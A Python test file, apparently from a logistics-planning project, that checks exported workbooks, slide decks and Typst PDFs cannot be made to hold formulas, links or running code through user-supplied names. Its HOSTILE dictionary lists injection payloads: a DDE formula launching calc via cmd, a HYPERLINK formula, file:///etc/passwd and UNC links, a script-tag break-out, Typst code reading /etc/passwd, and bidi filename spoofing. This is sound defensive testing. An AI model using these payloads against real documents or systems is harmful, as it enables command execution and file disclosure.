"""Whatever a name holds, the files open, and no cell is a formula or a link."""

import io
import re
import zipfile
from dataclasses import replace

import pytest
import typst
from briefs import sheets_of
from pptx import Presentation

import landbridge as lb
from landbridge.maps.brief.deck.deck import deck_bytes
from landbridge.maps.brief.gather import Told, gather
from landbridge.maps.brief.pages.pages import fonts, lay_out, pages_bytes
from landbridge.maps.brief.plain_text import guarded, plain
from landbridge.maps.brief.workbook.workbook import workbook_bytes
from landbridge.maps.phrases import Language
from landbridge.network.plan import Unserved

HOSTILE = {
    "formula": "=HYPERLINK(\"http://example.org/\"&A1,\"click\")",
    "command": "@SUM(1+1)*cmd|' /C calc'!A0",
    "link": "https://example.org/ \\\\host\\share file:///etc/passwd",
    "control": "a\x00b\x01c\x0bd\x1fe\ufffe\uffff",
    "half": "half \ud83d of a pair \udc00",
    "turned": "\u202egnp.exe\u202c \u2066abc\u2069 שלום مرحبا",
    "markup": "</a:t><script>alert(1)</script>&amp;]]> \" ' <![CDATA[",
    "typst": "#panic(\"ran\") #read(\"/etc/passwd\") $x$ *b* _i_ @ref <label> \\u{41} {n} {0}",
    "long": "长W" * 5000,
    "rare": "\U00020000 \u3402 Москва ☃ 😀",
    "spaces": " \t\n\r\u2028\u2029 ",
}  # fmt: skip
names = pytest.mark.parametrize("text", HOSTILE.values(), ids=HOSTILE)


@pytest.fixture
def facts(toy_plans, text):
    """The facts of a plan in which everything that a user can name is called so."""
    plan, before = toy_plans
    network = plan.network
    called = {"name": text, "name_zh": text}
    network = replace(
        network,
        name=text,
        terminals={k: v.model_copy(update=called) for k, v in network.terminals.items()},
        corridors={k: v.model_copy(update=called) for k, v in network.corridors.items()},
        sources={
            k: v.model_copy(update={"title_": text, "publisher": text, "address": text})
            for k, v in network.sources.items()
        },
        cargo_classes={
            k: v.model_copy(update={"name": text}) for k, v in network.cargo_classes.items()
        },
    )
    orders = lb.OrderBook(
        order.model_copy(update={"customer": text[:500].encode("utf-8", "replace").decode()})
        for order in plan.orders.values()
    )
    left = (Unserved(shipment_id="T5", units=1, reason=text),)
    hostile = replace(plan, network=network, orders=orders, unserved=left)
    return gather(Told(plan=hostile), Told(plan=before))


@names
@pytest.mark.parametrize("language", Language)
def test_the_workbook_holds_texts_alone(facts, text, language):
    content = zipfile.ZipFile(io.BytesIO(workbook_bytes(facts, language)))
    for name in content.namelist():
        part = content.read(name).decode()
        if name.startswith("xl/worksheets/sheet"):
            assert re.findall(r"<f>(?!SUBTOTAL\()", part) == []
            assert "<hyperlink" not in part
        assert "TargetMode=" not in part
    orders = sheets_of(facts, language)[5]
    customers = {row[1] for row in orders[4:] if re.fullmatch(r"T\d", row[0])}
    assert customers == {plain(text[:500].encode("utf-8", "replace").decode(), 60)}


@names
@pytest.mark.parametrize("language", Language)
def test_the_deck_opens_and_its_workbooks_hold_texts_alone(facts, text, language):
    content = deck_bytes(facts, language, None)
    deck = Presentation(io.BytesIO(content))
    assert len(deck.slides) == 8
    outer = zipfile.ZipFile(io.BytesIO(content))
    books = [name for name in outer.namelist() if name.endswith(".xlsx")]
    assert books
    for name in books:
        inner = zipfile.ZipFile(io.BytesIO(outer.read(name)))
        sheet = inner.read("xl/worksheets/sheet1.xml").decode()
        assert "<f>" not in sheet
        assert "<hyperlink" not in sheet


@names
def test_the_pages_stay_two_and_run_nothing(facts, text, tmp_path):
    assert pages_bytes(facts, Language.ZH, None).startswith(b"%PDF")
    source = lay_out(tmp_path, facts, Language.ZH, None)
    pages = typst.compile(str(source), format="png", ppi=30, **fonts(str(tmp_path)))
    assert isinstance(pages, list)
    assert len(pages) == 2


@names
def test_plain_text_is_one_line_that_every_reader_takes(text):
    line = plain(text, 100)
    assert len(line) <= 100
    assert line == " ".join(line.split())
    assert not re.search("[\x00-\x1f\u202a-\u202e\u2066-\u2069\ud800-\udfff\ufffe\uffff]", line)
    assert not guarded(text).startswith(("=", "+", "-", "@", "http"))
